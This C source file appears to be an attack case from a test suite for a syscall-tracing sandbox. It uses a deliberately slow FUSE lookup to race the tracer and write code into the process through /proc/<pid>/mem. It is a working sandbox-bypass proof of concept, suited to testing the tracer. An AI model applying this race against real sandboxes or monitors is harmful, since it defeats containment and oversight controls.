/*
 * Attack: an open for writing that blocks longer than a tracer holds its
 * siblings for. In a private mount namespace the program mounts a FUSE
 * filesystem served by a forked child process (it shares no descriptor
 * table or memory with the program): one entry, "mem", a symlink to
 * /proc/<program>/mem whose LOOKUP the server answers only after 1 s. The
 * main thread opens <mount>/mem O_RDWR; meanwhile a spinner thread pwrites
 * TW_CODE over tw_patch_target through the descriptor number the open will
 * get (the lowest free one) until that succeeds. A tracer that lets held
 * siblings go while the open still blocks lets the spinner use the new mem
 * descriptor between the kernel installing it and the exit stop refusing
 * it; main then calls tw_patch_target (RAN slow_open_call).
 * Needs root (mount namespaces, FUSE); otherwise `STEP fuse_mount ...`.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "tw_fuse.h"

#define LINK_NODE 2

TW_DEFINE_PATCH_TARGET;

static char target[64];
static atomic_int spin_fd = -1, spin_stop, spin_won;

static void fill_attr(struct fuse_attr *attr, uint64_t node)
{
	memset(attr, 0, sizeof(*attr));
	attr->ino = node;
	attr->mode = node == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFLNK | 0777;
	attr->nlink = node == FUSE_ROOT_ID ? 2 : 1;
	attr->size = node == FUSE_ROOT_ID ? 0 : strlen(target);
	attr->blksize = 4096;
}

/* The server's part (a child process): LOOKUP of "mem" answered after 1 s. */
static int handle(struct fuse_in_header *in, void *arg)
{
	switch (in->opcode) {
	case FUSE_LOOKUP: {
		struct fuse_entry_out entry = {0};

		if (in->nodeid != FUSE_ROOT_ID || strcmp((char *)arg, "mem") != 0) {
			tw_fuse_reply(in->unique, -ENOENT, NULL, 0);
			break;
		}
		sleep(1);
		entry.nodeid = LINK_NODE;
		fill_attr(&entry.attr, LINK_NODE);
		tw_fuse_reply(in->unique, 0, &entry, sizeof(entry));
		break;
	}
	case FUSE_GETATTR:
		tw_fuse_reply_attr(in, fill_attr, 0);
		break;
	case FUSE_READLINK:
		tw_fuse_reply(in->unique, 0, target, strlen(target));
		break;
	default:
		return 0;
	}
	return 1;
}

/* pwrite the code through the descriptor number the open will get. */
static void *spinner(void *unused)
{
	(void)unused;
	while (!atomic_load(&spin_stop)) {
		if (pwrite(atomic_load(&spin_fd), TW_CODE, sizeof(TW_CODE),
			   (off_t)(uintptr_t)tw_patch_target) == (ssize_t)sizeof(TW_CODE)) {
			atomic_store(&spin_won, 1);
			break;
		}
	}
	return NULL;
}

int main(void)
{
	char dir[] = "/tmp/tw_slow_open_XXXXXX";
	char path[256];
	pthread_t thread;
	pid_t server;
	int rc, fd;

	tw_init();
	snprintf(target, sizeof(target), "/proc/%d/mem", (int)getpid());
	if (!mkdtemp(dir))
		return 1;
	rc = tw_fuse_mount(dir);
	if (rc != 0)
		return tw_done();
	server = fork();
	if (server == 0) {
		tw_fuse_serve(handle);
		_exit(0);
	}
	close(tw_fuse_fd);
	fd = dup(0);
	close(fd);
	atomic_store(&spin_fd, fd); /* the lowest free descriptor: the open's */
	pthread_create(&thread, NULL, spinner, NULL);
	snprintf(path, sizeof(path), "%s/mem", dir);
	fd = open(path, O_RDWR | O_CLOEXEC);
	tw_step("slow_open", "open", fd, errno);
	for (int i = 0; i < 1000 && fd >= 0 && !atomic_load(&spin_won); i++)
		usleep(1000);
	atomic_store(&spin_stop, 1);
	pthread_join(thread, NULL);
	if (atomic_load(&spin_won))
		tw_run("slow_open_call", (const void *)tw_patch_target);
	if (fd >= 0)
		close(fd);
	umount2(dir, MNT_DETACH);
	kill(server, SIGKILL);
	waitpid(server, NULL, 0);
	rmdir(dir);
	return tw_done();
}
